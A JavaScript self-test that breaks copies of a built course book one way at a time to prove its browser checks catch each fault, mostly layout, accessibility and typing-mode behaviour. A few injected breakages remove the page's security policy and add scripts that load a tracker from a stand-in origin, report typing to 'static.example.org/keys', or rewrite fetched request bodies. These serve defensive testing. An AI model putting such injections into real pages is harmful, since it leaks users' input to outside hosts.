// Sees each browser check fail: breaks a copy of the built book in one way
// at a time and runs the check that must catch it, which must exit 1 and
// say what broke; and the same for the check that theme/'s minified files
// are what their sources make (on a copy of theme/). Exits 1 if a check let
// a breakage through.
//
//   COURSE_BOOK=target/course-book-html node tests/browser/self-test.mjs BOOK_HTML_DIR
//
// (COURSE_BOOK: the course-book fixture, built, for the breakages of what
// only it shows, such as "Write it" on an exercise.)
import { spawnSync } from 'node:child_process';
import { appendFile, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chapterPages, firstListingPage } from './summary.mjs';
import { inOrder, runNode } from './pool.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const [root = 'book/html'] = process.argv.slice(2);
const chapter = await firstListingPage(root);
// The typing mode's file in the built book (hashed by mdBook).
const typingFile = (await readdir(join(root, 'fonts'))).find((f) => /^cbh-typeit.*\.js$/.test(f));
// "Predict it"'s file, likewise.
const predictFile = (await readdir(join(root, 'fonts'))).find((f) => /^cbh-predict.*\.js$/.test(f));
// The course-book fixture, built (COURSE_BOOK; .ci/run builds it), for what
// only it shows: its first page with an exercise whose goal is an output.
const courseRoot = process.env.COURSE_BOOK;
const courseSrc = 'tests/fixtures/course-book/src';
let coursePage = null;
for (const p of courseRoot ? await chapterPages(courseSrc) : []) {
  if ((await readFile(join(courseRoot, p), 'utf8').catch(() => '')).includes('data-exercise="output"')) { coursePage = p; break; }
}
// A script the page runs before anything else, breaking it for the test.
const early = (js) => (h) => h.replace('<head>', `<head><script>${js}</script>`);

// The page with the theme's Content-Security-Policy taken out: a breakage
// that the policy would stop proves the check behind it on its own.
const noPolicy = (h) => h.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

const breakages = [
  { what: 'a script tag that loads from another origin (the policy taken out)', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: (h) => noPolicy(h).replace('</head>', '<script src="https://static.example.org/tracker.js"></script></head>'),
    says: 'request leaves the origin: GET https://static.example.org/tracker.js' },
  { what: 'a script tag that loads from another origin, stopped by the policy', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: (h) => h.replace('</head>', '<script src="https://static.example.org/tracker.js"></script></head>'),
    says: "violates the following Content Security Policy directive: \"script-src 'self' 'unsafe-inline'\"" },
  { what: 'a page without its Content-Security-Policy', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: noPolicy, says: 'Content-Security-Policy does not say: the whole policy' },
  { what: 'a policy that lets a page be framed in', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: (h) => h.replace("frame-src 'none'", "frame-src *"),
    says: "Content-Security-Policy does not say: frame-src 'none'" },
  { what: 'a console error on load', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: (h) => h.replace('</head>', '<script>console.error("broken on purpose")</script></head>'),
    says: 'console error: broken on purpose' },
  { what: 'an image without alt text', script: 'pages.mjs', env: { ONLY_STATE: 'load' },
    edit: (h) => h.replace(/(<img [^>]*?)alt="[^"]*"/, '$1'), says: 'axe image-alt' },
  { what: 'a Run button that does not post', script: 'behaviour.mjs', env: { BEHAVIOUR_PART: '4' },
    edit: (h) => h.replace('</head>', '<script>window.fetch = () => new Promise(() => {});</script></head>'),
    says: 'FAIL Run: posts to the playground once' },
  { what: 'a copy button that copies nothing', script: 'behaviour.mjs', env: { BEHAVIOUR_PART: '5' },
    edit: (h) => h.replace('</body>', '<script>navigator.clipboard.writeText = () => Promise.resolve();</script></body>'),
    says: 'FAIL copy: clipboard holds the listing as shown' },
  { what: 'a Run button on a block the playground cannot run', script: 'run-buttons.mjs',
    edit: (h) => h.replace('<code class="language-rust', '<code class="noplayground language-rust'),
    says: 'FAIL' },
  { what: 'hidden lines that no longer hide', script: 'behaviour.mjs', env: { BEHAVIOUR_PART: '5' },
    edit: (h) => h.replace('</head>', '<style>.boring { display: inline !important; }</style></head>'),
    says: 'FAIL hidden lines' },
  { what: 'search teasers with the notes\' numbers in them (their cleaner, loaded when search opens, gone)', script: 'behaviour.mjs', env: { BEHAVIOUR_PART: '6' },
    prepare: async (dir) => {
      for (const f of await readdir(join(dir, 'fonts'))) if (f.startsWith('cbh-search')) await rm(join(dir, 'fonts', f));
    },
    says: 'FAIL search: no note numbers in the teasers' },
  { what: 'a label that names the wrong file', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    edit: (h) => h.replace('<code class="cbh-listing-file">src/main.rs</code>', '<code class="cbh-listing-file">src/lib.rs</code>'),
    says: 'does not name src/main.rs' },
  { what: 'buttons shown only under the pointer', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    edit: (h) => h.replace('</head>', '<style>main pre > .buttons { opacity: 0 !important; }</style></head>'),
    says: 'is not shown without hovering' },
  { what: 'buttons on top of the code', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    edit: (h) => h.replace('</head>', '<style>main pre { padding-top: 0.5em !important; }</style></head>'),
    says: 'covers the code' },
  { what: 'a long line cut off in print', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    edit: (h) => h.replace('</head>', '<style>@media print { main pre > code .cbh-line { display: inline !important; } main pre > code { white-space: pre !important; overflow: hidden !important; } }</style></head>'),
    says: 'a line runs off the page' },
  { what: 'a footnote back link too small to tap', script: 'reader.mjs', env: { ONLY_WIDTH: '375' },
    edit: (h) => h.replace('</head>', '<style>.footnote-definition a[href^="#fr-"] { display: inline !important; min-width: 0 !important; min-height: 0 !important; }</style></head>'),
    says: 'a footnote back link is' },
  { what: 'figure labels shrunk on a phone (no narrow version)', script: 'reader.mjs', env: { ONLY_WIDTH: '320' },
    edit: (h) => h.replace(/<source [^>]*>/g, ''),
    says: 'smallest label shows at' },
  { what: 'a figure wider than its box on a phone', script: 'reader.mjs', env: { ONLY_WIDTH: '320' },
    edit: (h) => h.replace('</head>', '<style>.cbh-figure img { min-width: 480px !important; } .cbh-figure { overflow-x: auto !important; }</style></head>'),
    says: 'is wider than its box' },
  // Code that fits, and highlighting (issue 22).
  { what: 'code blocks held to the text\'s measure at 1280 px', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    edit: (h) => h.replace('</head>', '<style>main pre, main .cbh-listing-label { width: auto !important; margin-inline: 0 !important; }</style></head>'),
    says: 'the code column holds' },
  { what: 'a terminal session whose grammar never comes', script: 'reader.mjs', env: { ONLY_WIDTH: '1280' },
    prepare: async (dir) => {
      for (const f of await readdir(join(dir, 'fonts'))) if (f.startsWith('cbh-highlight-later')) await rm(join(dir, 'fonts', f));
    },
    edit: (h) => h.replace('</main>', '<pre><code class="language-console">$ cargo run\nhello\n</code></pre></main>'),
    says: 'no grammar came for console' },
  // "Type it" (issue 22).
  { what: 'a typing mode that loses a keystroke (every ";")', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
    edit: early("document.addEventListener('beforeinput', (e) => { if (e.data === ';') e.preventDefault(); }, true);"),
    says: 'FAIL 1280px: typing block 1 exactly' },
  { what: 'the typing mode downloaded with the page', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
    edit: (h) => h.replace('</head>', `<script src="fonts/${typingFile}"></script></head>`),
    says: 'FAIL 1280px: the typing mode is not downloaded on load' },
  { what: 'a typing mode that reports keystrokes to another origin (the policy taken out)', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
    edit: (h) => early("document.addEventListener('input', () => fetch('https://static.example.org/keys', { mode: 'no-cors' }).catch(() => {}), { once: true });")(noPolicy(h)),
    says: 'FAIL 1280px: no request leaves the origin while typing' },
  { what: 'slips drawn beside their place (the faded listing out of line with the box)', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
    edit: (h) => h.replace('</head>', '<style>.cbh-ti-layer { padding-left: 2rem !important; }</style></head>'),
    says: 'FAIL a slip is marked at its line and column' },
  { what: 'slips not shown', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
    edit: (h) => h.replace('</head>', '<style>.cbh-ti-slip { background: none !important; text-decoration: none !important; }</style></head>'),
    says: 'FAIL a slip is visible' },
  { what: 'slips kept from assistive technology (aria-invalid never set)', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
    edit: early("new MutationObserver((ms) => ms.forEach((m) => { if (m.target.getAttribute('aria-invalid') === 'true') m.target.setAttribute('aria-invalid', 'false'); })).observe(document, { subtree: true, attributes: true, attributeFilter: ['aria-invalid'] });"),
    says: 'FAIL a slip makes the box aria-invalid' },
  { what: 'Backspace that does not take a slip away', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
    edit: early("document.addEventListener('beforeinput', (e) => { if (e.inputType === 'deleteContentBackward') e.preventDefault(); }, true);"),
    says: 'FAIL Backspace clears the slip' },
  { what: 'a keyboard trap in the typing box', script: 'typeit.mjs', env: { TYPEIT_PART: 'keyboard' },
    edit: early("document.addEventListener('keydown', (e) => { if (e.key === 'Tab' && e.target.classList && e.target.classList.contains('cbh-ti-input')) e.preventDefault(); }, true);"),
    says: 'FAIL keyboard: Shift+Tab leaves the box' },
  { what: '"Type it" out of the Tab order', script: 'typeit.mjs', env: { TYPEIT_PART: 'keyboard' },
    edit: (h) => h.replace('</body>', '<script>document.querySelectorAll(".cbh-typeit-button").forEach((b) => { b.tabIndex = -1; });</script></body>'),
    says: 'FAIL keyboard: Tab reaches "Type it"' },
  { what: '"Run what you typed" with no checked output to compare with', script: 'typeit.mjs', env: { TYPEIT_PART: 'run' },
    edit: (h) => h.replace(/<div hidden[^>]*class="cbh-output-of"[^>]*>\s*<\/div>/g, ''),
    says: 'FAIL run (same): what it printed is compared with the book\'s checked output' },
  { what: 'the typing mode in colours axe-core flags (a button of it unreadable)', script: 'pages.mjs', env: { ONLY_STATE: 'typing' },
    edit: (h) => h.replace('</head>', '<style>.cbh-ti-bar button { color: #ccc !important; }</style></head>'),
    says: `FAIL ${chapter} light 1280px typing` },
  // "Predict it" (issue 29).
  { what: '"Predict it" that marks a wrong line as right', script: 'predict.mjs',
    prepare: async (dir) => {
      const file = join(dir, 'fonts', predictFile);
      await writeFile(file, (await readFile(file, 'utf8')).replaceAll('cbh-pr-wrong', 'cbh-pr-right'));
    },
    says: 'FAIL 1280px: checked, the output shows again with the wrong line marked' },
  { what: '"Predict it" downloaded with the page', script: 'predict.mjs',
    edit: (h) => h.replace('</head>', `<script src="fonts/${predictFile}"></script></head>`),
    says: 'FAIL 1280px: "Predict it" is not loaded before it is pressed' },
  { what: 'a prediction made with the output in sight', script: 'predict.mjs',
    edit: (h) => h.replace('</head>', '<style>main pre > code.cbh-pr-hidden { display: block !important; }</style></head>'),
    says: 'FAIL 1280px: the output is hidden while predicting' },
  { what: '"Predict it" in colours axe-core flags (a button of it unreadable)', script: 'pages.mjs', env: { ONLY_STATE: 'predicting' },
    edit: (h) => h.replace('</head>', '<style>.cbh-pr-bar button { color: #ccc !important; }</style></head>'),
    says: `FAIL ${chapter} light 1280px predicting` },
  // "Write it", on the course-book fixture's exercise (issue 29).
  { what: '"Write it" that opens an empty box, not the starter', script: 'writeit.mjs', book: 'course',
    edit: early("document.addEventListener('focusin', (e) => { if (e.target.classList && e.target.classList.contains('cbh-wi-input')) e.target.value = ''; });"),
    says: 'FAIL 1280px: the box holds the starter' },
  { what: '"Run what you wrote" that posts the starter, not what was written', script: 'writeit.mjs', book: 'course',
    edit: early("const f = window.fetch; window.fetch = (u, o) => { if (o && o.body) { const b = JSON.parse(o.body); b.code = b.code.replace(/^.*(\\* 80\\.0).*$/m, 'todo!()'); o = { ...o, body: JSON.stringify(b) }; } return f(u, o); };"),
    says: 'FAIL 1280px: what the learner wrote prints the goal' },
  { what: 'the faded listing too faint to read (under the box, where axe-core cannot see it)', script: 'contrast.mjs',
    edit: (h) => h.replace('</head>', '<style>.cbh-ti-rest { color: #d4d4d4 !important; }</style></head>'),
    says: /typing: the faded listing \(text\) +[\d.]+:1 FAIL/ },
];

// Checks that are not run in a browser, broken on a copy of theme/.
const themeBreakages = [
  { what: 'a minified file its source no longer makes', script: '../../theme/tools/minify.mjs', args: ['--check'],
    prepare: (dir) => appendFile(join(dir, 'cbh-search.js'), '\nwindow.cbhStale = true;\n'),
    says: 'FAIL theme/fonts/cbh-search.min.js' },
];

// SELF_TEST_ONLY=words runs only the breakages whose description has them.
const only = (b) => !process.env.SELF_TEST_ONLY || b.what.includes(process.env.SELF_TEST_ONLY);
let letThrough = 0;
// Each breakage on its own copy of the book, a few at a time (pool.mjs).
async function tryBreakage(b) {
  const course = b.book === 'course';
  if (course && !coursePage) {
    return { caught: false, note: ' (not run: COURSE_BOOK names no built course-book with an exercise)', lines: '' };
  }
  const dir = await mkdtemp(join(tmpdir(), 'broken-page-'));
  try {
    await cp(course ? courseRoot : root, dir, { recursive: true });
    const page = join(dir, course ? coursePage : chapter);
    const html = await readFile(page, 'utf8');
    const broken = b.edit ? b.edit(html) : html;
    if (broken === html && !b.prepare) throw new Error(`could not break the page: ${b.what}`);
    await writeFile(page, broken);
    if (b.prepare) await b.prepare(dir);
    const run = await runNode(join(here, b.script), [dir],
      { ONLY_PAGE: course ? coursePage : chapter, ONLY_THEME: 'light', ...(course ? { BOOK_SRC: courseSrc } : {}), ...b.env });
    const caught = run.status === 1 && (b.says instanceof RegExp ? b.says.test(run.stdout) : run.stdout.includes(b.says));
    return {
      caught,
      note: caught ? ` (${run.seconds} s)` : ` (exit ${run.status}; expected "${b.says}")`,
      lines: run.stdout.split('\n').filter((l) => /FAIL|axe|request|console/.test(l)).slice(0, 10).join('\n'),
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
const chosen = breakages.filter(only);
await inOrder(chosen.map((b) => () => tryBreakage(b)), (r, i) => {
  const b = chosen[i];
  if (!r.caught) letThrough++;
  console.log(`${r.caught ? 'ok  ' : 'FAIL'} ${b.script} catches ${b.what}${r.note}`);
  if (!r.caught && r.lines) console.log(r.lines);
});
for (const b of themeBreakages.filter(only)) {
  const dir = await mkdtemp(join(tmpdir(), 'broken-theme-'));
  await cp(join(here, '../../theme'), dir, { recursive: true, filter: (f) => !f.includes('node_modules') });
  await b.prepare(dir);
  const run = spawnSync(process.execPath, [join(here, b.script), ...b.args, '--theme', dir], { encoding: 'utf8' });
  const caught = run.status === 1 && run.stdout.includes(b.says);
  if (!caught) letThrough++;
  console.log(`${caught ? 'ok  ' : 'FAIL'} ${b.script.split('/').pop()} catches ${b.what}${caught ? '' : ` (exit ${run.status}; expected "${b.says}")`}`);
  if (!caught) console.log((run.stdout + run.stderr).split('\n').slice(0, 10).join('\n'));
  await rm(dir, { recursive: true, force: true });
}
process.exit(letThrough ? 1 : 0);
